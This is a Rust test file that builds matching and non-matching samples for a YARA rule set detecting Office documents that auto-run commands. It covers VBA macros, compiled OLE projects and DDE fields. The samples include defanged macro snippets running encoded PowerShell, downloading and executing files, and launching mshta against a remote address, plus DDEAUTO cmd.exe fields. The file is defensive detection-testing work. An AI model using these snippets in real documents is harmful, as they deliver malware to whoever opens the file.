//! `office.yar`: documents that run commands by themselves.

use super::build::{ole, utf16, zip};
use super::{Sample, hit, miss, plain};

const VBA: &str = "Downloader.VBA.AutoShell";
const OLE: &str = "Heur.OLE.AutoShell";
const DDE: &str = "Downloader.Office.DdeCommand";

pub(super) fn samples() -> Vec<Sample> {
    [vba(), compiled(), dde()].into_iter().flatten().collect()
}

/// A module of macros as documents store it.
fn module(body: &str) -> String {
    format!(
        "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal\"\r\n{}\r\n",
        plain(body)
    )
}

fn vba() -> Vec<Sample> {
    let host = "Sub Auto·Open()\r\n  Sh·ell \"powers·hell -enc AAAA\", vbHide\r\nEnd Sub";
    let fetch = "Private Declare Function F Lib \"urlmon\" Alias \"URLDownload·ToFileA\" () As Long\r\n\
         Sub Workbook_·Open()\r\n  F 0, u, p, 0, 0\r\n  Sh·ell p\r\nEnd Sub";
    let document = "Private Sub Document_·Open()\r\n  CreateObject(\"WScr·ipt.Shell\").Ru·n \"ms·hta http://198.51.100.7/a\", 0\r\nEnd Sub";
    vec![
        hit(VBA, "scripting host", module(host)),
        hit(VBA, "download and run", module(fetch)),
        hit(VBA, "shell object", module(document)),
        miss(
            VBA,
            "explorer opened",
            module(
                "Sub Workbook_Open()\r\n  Shell \"explorer.exe C:\\Reports\", vbNormalFocus\r\nEnd Sub",
            ),
        ),
        miss(
            VBA,
            "not automatic",
            module("Sub RunTool()\r\n  Sh·ell \"powers·hell -File report.ps1\"\r\nEnd Sub"),
        ),
        miss(
            VBA,
            "data fetched",
            module(
                "Sub Auto_Open()\r\n  Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n  Range(\"A1\") = x.responseText\r\nEnd Sub",
            ),
        ),
        miss(VBA, "tutorial", format!("How macros attack\r\n\r\n{}\r\n", module(host))),
    ]
}

fn compiled() -> Vec<Sample> {
    let project = utf16("_VBA_PROJECT");
    let text = |text: &str| plain(text).into_bytes();
    let start = text("Auto·Open");
    vec![
        hit(
            OLE,
            "shell and download",
            ole(&[&project, &start, &text("WScr·ipt.Shell"), &text("MSXML2.XML·HTTP")]),
        ),
        hit(
            OLE,
            "host and shell",
            ole(&[
                &project,
                &text("Document_·Open"),
                &text("powers·hell -w hidden"),
                &text("Shell·Execute"),
            ]),
        ),
        miss(OLE, "one of three", ole(&[&project, &start, &text("WScr·ipt.Shell")])),
        miss(OLE, "no macros", ole(&[&start, &text("WScr·ipt.Shell"), &text("MSXML2.XML·HTTP")])),
        miss(
            OLE,
            "not automatic",
            ole(&[
                &project,
                &text("Button1_Click"),
                &text("WScr·ipt.Shell"),
                &text("ADO·DB.Stream"),
            ]),
        ),
        miss(
            OLE,
            "no OLE file",
            [project.clone(), start.clone(), text("WScr·ipt.Shell MSXML2.XML·HTTP")].concat(),
        ),
    ]
}

fn dde() -> Vec<Sample> {
    let field = |instruction: &str| {
        let instruction = plain(instruction);
        format!(
            "<?xml version=\"1.0\"?><w:document><w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p></w:document>"
        )
    };
    let command = "DDE·AUTO c:\\\\windows\\\\system32\\\\cm·d.exe \"/k echo\"";
    vec![
        hit(DDE, "WordprocessingML", field(command)),
        hit(DDE, "quoted, PowerShell", field("DD·E &quot;powers·hell&quot; \"-c echo\"")),
        hit(
            DDE,
            "RTF",
            plain("{\\rtf1{\\field{\\*\\fldinst DDE·AUTO c:\\\\windows\\\\cm·d.exe \"/k\"}}}"),
        ),
        miss(
            DDE,
            "range of a sheet",
            field("DDEAUTO Excel.Sheet.8 \"C:\\\\books\\\\sales.xlsx\" \"Sheet1!R1C1\" \\a"),
        ),
        miss(DDE, "page number", field("PAGE \\* MERGEFORMAT")),
        miss(
            DDE,
            "a text about it",
            plain(
                "The field <w:instrText> with DDE·AUTO c:\\\\windows\\\\cm·d.exe is an old trick.",
            ),
        ),
        miss(
            DDE,
            "document with a picture",
            zip(&[("word/document.xml", field("INCLUDEPICTURE a.png").as_bytes())]),
        ),
    ]
}
